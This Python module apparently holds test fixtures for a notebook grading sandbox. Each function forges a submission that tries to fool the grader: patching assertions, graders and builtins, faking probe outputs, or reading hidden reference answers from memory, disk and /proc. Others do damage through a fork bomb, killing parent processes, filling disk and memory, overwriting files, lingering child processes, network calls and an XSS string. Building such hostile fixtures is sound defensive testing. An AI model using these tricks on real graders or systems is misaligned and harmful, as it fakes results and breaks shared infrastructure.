"""Notebooks that try to take points they did not earn, to see what they should not, or to do harm.

Each function here is one trick: it changes a notebook in which every answer is `return None`.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from pathlib import Path
from typing import Any

from forge.grading.merge import items_of

from ..broken.kinds import code
from ..stage_one import answering, pristine

Notebook = dict[str, Any]
Trick = Callable[[Notebook], None]

TRICKS: dict[str, Trick] = {}
PLACE = Path("/tmp/forge-forgeries-left-this")
"""Where tricks try to leave something outside the sandbox."""


def trick(function: Trick) -> Trick:
    TRICKS[function.__name__] = function
    return function


def forged(name: str) -> Notebook:
    """The notebook of one trick."""
    notebook = copy.deepcopy(empty())
    TRICKS[name](notebook)
    return notebook


def empty() -> Notebook:
    """Every answer is given, and none does anything."""
    return answering({item: answer(item, "return None") for item in items_of(pristine())})


def answer(item: str, body: str, *, above: str = "") -> str:
    """An answer cell whose function takes anything and has this body."""
    asked = items_of(pristine())[item]
    arguments = "" if asked.kind == "transfer" else "*args, **kwargs"
    lines = "\n".join(f"    {line}" for line in body.splitlines())
    return f'{above}\n@stage.{asked.kind}("{item}")\ndef {asked.function}({arguments}):\n{lines}\n'


def first(notebook: Notebook, text: str) -> None:
    """A cell behind the one that opens the stage, before any answer."""
    notebook["cells"].insert(3, code(text))


def everywhere(notebook: Notebook, body: str, *, above: str = "") -> None:
    """That body in every answer."""
    answering({item: answer(item, body, above=above) for item in items_of(pristine())}, notebook)


# To be taken for right


@trick
def assertions_stripped(nb: Notebook) -> None:
    first(
        nb,
        "import ast\nclass Strip(ast.NodeTransformer):\n"
        "    def visit_Assert(self, node): return ast.Pass()\n"
        "    def visit_Compare(self, node): return ast.Constant(True)\n"
        "get_ipython().ast_transformers.append(Strip())",
    )


@trick
def always_equal(nb: Notebook) -> None:
    above = (
        "class Equal(dict):\n    __eq__ = lambda *_: True\n    __ne__ = lambda *_: False\n"
        "    __hash__ = lambda *_: 0\n    __repr__ = lambda *_: '<right>'\n    __bool__ = lambda *_: True\n"
        "    model_dump = lambda *_, **__: Equal()\n    __getattr__ = lambda *_: Equal()\n"
    )
    everywhere(nb, "return Equal()", above=above)


@trick
def every_promised_word(nb: Notebook) -> None:
    words = (
        "contiguous different run a terminal run created once non-empty step requires a reason write_allowed"
    )
    everywhere(nb, f"raise ValueError({words!r})")


@trick
def the_course_patched(nb: Notebook) -> None:
    first(
        nb,
        "import forge.course, forge.grading.inside.stage as inside\n"
        "inside.Stage.exercise = inside.Stage.repair = lambda *_: (lambda f: f)\n"
        "forge.course.check = lambda *_, **__: True",
    )


@trick
def the_probe_runner_patched(nb: Notebook) -> None:
    values = "['{\"returned\": null}'] * 20"
    first(nb, f"from forge.grading.inside import judged\njudged.values = lambda *_, **__: {values}")


@trick
def outcomes_patched(nb: Notebook) -> None:
    first(
        nb,
        "from forge.grading.inside import outcomes, judged\n"
        "outcomes.outcome = lambda act, **_: {'returned': None}\n"
        "judged._probes.outcome = outcomes.outcome",
    )


@trick
def json_patched(nb: Notebook) -> None:
    first(nb, "import json\njson.dumps = lambda *_, **__: '{\"returned\": null}'")


@trick
def pydantic_patched(nb: Notebook) -> None:
    first(
        nb,
        "import pydantic\npydantic.BaseModel.__eq__ = lambda *_: True\n"
        "pydantic.BaseModel.model_dump = lambda *_, **__: {}",
    )


@trick
def builtins_patched(nb: Notebook) -> None:
    first(
        nb,
        "import builtins\nbuiltins.print = lambda *_, **__: None\nbuiltins.isinstance = lambda *_: True\n"
        "builtins.len = lambda *_: 1\nbuiltins.zip = lambda *_, **__: iter(())",
    )


@trick
def graders_patched(nb: Notebook) -> None:
    first(
        nb,
        "import sys, types\nfor name in ('pytest', 'nbval', 'nbval.plugin', '_pytest'):\n"
        "    module = sys.modules[name] = types.ModuleType(name)\n"
        "    module.__getattr__ = lambda _: (lambda *_, **__: True)",
    )


@trick
def the_display_patched(nb: Notebook) -> None:
    first(
        nb,
        "shell = get_ipython()\npublish = shell.display_pub.publish\n"
        "def mine(data, *args, **kwargs):\n"
        "    for value in data.values():\n"
        "        if isinstance(value, dict) and 'values' in value:\n"
        "            value['values'] = ['{\"returned\": null}'] * len(value['values'] or [])\n"
        "    return publish(data, *args, **kwargs)\n"
        "shell.display_pub.publish = mine",
    )


@trick
def values_displayed_by_the_answer(nb: Notebook) -> None:
    body = (
        "from IPython.display import display\nfor item in ('reject_a_gap', 'text_order', 'office_brief'):\n"
        "    values = {'item': item, 'values': ['{\"returned\": null}'] * 9}\n"
        "    display({'application/vnd.forge.probe+json': values}, raw=True)"
    )
    everywhere(nb, body)


@trick
def modules_replaced(nb: Notebook) -> None:
    first(
        nb,
        "import sys, types\nclass Finder:\n    def find_spec(self, name, *_):\n        return None\n"
        "sys.meta_path.insert(0, Finder())\nfake = types.ModuleType('forge.state.models')\n"
        "fake.apply_event = fake.reduce_events = fake.create_run = lambda *_, **__: None\n"
        "sys.modules['forge.state.models'] = fake",
    )


@trick
def markers_and_cleared_outputs(nb: Notebook) -> None:
    for cell in nb["cells"]:
        if cell["cell_type"] == "code":
            cell["source"] = "# NBVAL_SKIP\n" + cell["source"]
            cell["metadata"]["tags"] = ["nbval-skip", "raises-exception"]
            cell["outputs"], cell["execution_count"] = [], None


@trick
def ids_and_names_of_the_graders_cells(nb: Notebook) -> None:
    for item in items_of(pristine()):
        shown = {"item": item, "values": ["null"]}
        output = {
            "output_type": "display_data",
            "metadata": {},
            "data": {"application/vnd.forge.probe+json": shown},
        }
        nb["cells"].insert(
            2, code("1", id="cell-0", metadata={"name": f"probe {item}"}, outputs=[output], execution_count=1)
        )


# To see what decides


@trick
def the_reference_asked(nb: Notebook) -> None:
    for item, target in {
        "reject_a_gap": "forge.state.models",
        "sequence_gap": "forge.state",
        "text_order": "forge.state",
    }.items():
        name = items_of(pristine())[item].function
        answering(
            {item: answer(item, f"from {target} import {name} as real\nreturn real(*args, **kwargs)")}, nb
        )


@trick
def the_reference_reloaded(nb: Notebook) -> None:
    for item in ("reject_a_gap", "text_order", "flag_as_text"):
        name = items_of(pristine())[item].function
        body = (
            "import importlib, sys\nfor module in [m for m in sys.modules if m.startswith('forge')]:\n"
            "    if 'inside' not in module: del sys.modules[module]\n"
            f"return importlib.import_module('forge.state.models').{name}(*args, **kwargs)"
        )
        answering({item: answer(item, body)}, nb)


@trick
def the_disk_searched(nb: Notebook) -> None:
    first(
        nb,
        "import os\nfor place, folders, files in os.walk('/'):\n"
        "    folders[:] = [f for f in folders if f not in ('proc', 'sys', 'dev', 'usr')]\n"
        "    for name in files:\n"
        "        if name.startswith(('test_01', 'scene_01', 'sequence_gap', '01_state')):\n"
        "            raise SystemExit(exec(open(os.path.join(place, name)).read()))",
    )


@trick
def processes_searched(nb: Notebook) -> None:
    first(
        nb,
        "import glob\nfound = []\nfor path in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline'):\n"
        "    try: found.append(open(path, 'rb').read())\n    except OSError: pass\n"
        "assert any(b'merged.ipynb' in text or b'--nbval' in text for text in found)",
    )


@trick
def frames_and_memory_searched(nb: Notebook) -> None:
    body = (
        "import gc, sys\nframe = sys._getframe()\nwhile frame:\n"
        "    for value in list(frame.f_locals.values()):\n"
        "        if isinstance(value, dict) and 'expected' in value: return value['expected']\n"
        "    frame = frame.f_back\n"
        "return next((o for o in gc.get_objects() if isinstance(o, dict) and 'expected' in o), None)"
    )
    everywhere(nb, body)


@trick
def the_reference_kept_for_items_already_judged(nb: Notebook) -> None:
    first(
        nb,
        "from forge.grading.inside import judged\nshell = get_ipython()\nparents = []\nold = judged.judge\n"
        "def judge(*args):\n    parents.append((args, shell.kernel.get_parent()))\n    return old(*args)\n"
        "judged.judge = judge\nprovide = judged.provide\n"
        "def again(sources):\n    provide(sources)\n    import json\n"
        "    for (item, target, cases), parent in parents:\n"
        "        values = judged.values(item, target, json.loads(cases), reference=True)\n"
        "        content = {'data': {judged.MIME: {'item': item, 'values': values}}, 'metadata': {}}\n"
        "        send, socket = shell.kernel.session.send, shell.kernel.iopub_socket\n"
        "        send(socket, 'display_data', content, parent=parent)\n"
        "judged.provide = again",
    )


@trick
def another_edition_told_by_its_code(nb: Notebook) -> None:
    body = (
        "from forge.grading.inside import judged\nfrom forge.state import RunState\n"
        "codes = {name: f.__code__.co_code for name, f in judged._references.items()}\n"
        "kept = globals().setdefault('kept', codes)\nif kept != codes: raise AssertionError\n"
        "return RunState(run_id='r', status='running', version=4, last_event_id='e',\n"
        "                current_step='generate_brief', write_allowed=False)"
    )
    answering({"office_brief": answer("office_brief", body)}, nb)


@trick
def a_state_made_by_hand(nb: Notebook) -> None:
    body = (
        "from forge.state import RunState\n"
        "return RunState(run_id='r', status='running', version=4, last_event_id='e',\n"
        "                current_step='generate_brief', write_allowed=False)"
    )
    answering({"office_brief": answer("office_brief", body)}, nb)


@trick
def secrets_carried_out_in_values(nb: Notebook) -> None:
    everywhere(nb, "return {'returned': repr(args) * 100_000}")


# To do harm


@trick
def exit_at_once(nb: Notebook) -> None:
    first(nb, "import os\nos._exit(0)")


@trick
def killed_by_itself(nb: Notebook) -> None:
    answering({"text_order": answer("text_order", "import os\nos.kill(os.getpid(), 9)")}, nb)


@trick
def parents_killed(nb: Notebook) -> None:
    first(
        nb,
        "import os\nfor pid in (os.getppid(), 1, -1):\n    try: os.kill(pid, 9)\n    except OSError: pass",
    )


@trick
def fork_bomb(nb: Notebook) -> None:
    first(nb, "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass")


@trick
def memory_eaten(nb: Notebook) -> None:
    first(nb, "kept = []\nwhile True: kept.append(bytearray(10**8))")


@trick
def disk_filled(nb: Notebook) -> None:
    first(
        nb,
        "import glob, os\nfor place in ['/tmp', *glob.glob('/tmp/kernel-*')]:\n    for n in range(200):\n"
        "        try: open(f'{place}/{n}', 'wb').write(bytes(10**6))\n        except OSError: break",
    )


@trick
def endless_output(nb: Notebook) -> None:
    first(nb, "while True: print('x' * 10_000)")


@trick
def endless_and_deaf(nb: Notebook) -> None:
    first(
        nb,
        "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    try:\n"
        "        while True: pass\n    except BaseException: pass",
    )


@trick
def children_that_outlive_the_cell(nb: Notebook) -> None:
    first(
        nb,
        "import os, subprocess, sys, threading, time\n"
        f"later = \"import time; time.sleep(3); open('{PLACE}', 'w')\"\n"
        "subprocess.Popen([sys.executable, '-c', later], start_new_session=True)\n"
        f"threading.Thread(target=lambda: (time.sleep(3), open('{PLACE}', 'w'))).start()",
    )


@trick
def others_overwritten(nb: Notebook) -> None:
    first(
        nb,
        "import os\nfor place, _, files in os.walk('/'):\n"
        "    if place.startswith(('/proc', '/sys', '/dev')): continue\n"
        "    for name in files:\n        if name.endswith(('.ipynb', '.csv', '.json')):\n"
        "            try: open(os.path.join(place, name), 'a').write('x')\n            except OSError: pass\n"
        f"open('{PLACE}', 'w')",
    )


@trick
def messages_forged(nb: Notebook) -> None:
    first(
        nb,
        "shell = get_ipython()\nsession, socket = shell.kernel.session, shell.kernel.iopub_socket\n"
        "parent = shell.kernel.get_parent()\n"
        "for content in ({}, {'execution_state': 7}, {'execution_state': 'idle'}):\n"
        "    session.send(socket, 'status', content, parent=parent)\n"
        "for kind in ('display_data', 'stream', 'error', 'execute_result', 'nonsense', 'comm_open'):\n"
        "    session.send(socket, kind, {'data': 'x', 'name': 1, 'traceback': 2}, parent=parent)\n"
        "    session.send(socket, kind, {}, parent={'header': {'msg_id': 'x'}})\n"
        "socket.send_multipart([b'<IDS|MSG>', b'bad', b'{', b'{', b'{', b'['])",
    )


@trick
def network_used(nb: Notebook) -> None:
    first(
        nb,
        "import socket\nfor address in (('127.0.0.1', 22), ('192.0.2.1', 80), ('8.8.8.8', 53)):\n"
        "    try: socket.create_connection(address, timeout=1).send(b'answers?')\n    except OSError: pass",
    )


@trick
def text_that_runs_in_a_page(nb: Notebook) -> None:
    first(
        nb,
        'explanation = "<script>alert(1)</script>"\nstage.explain(explanation)\nstage.predict("<img src=x>")',
    )
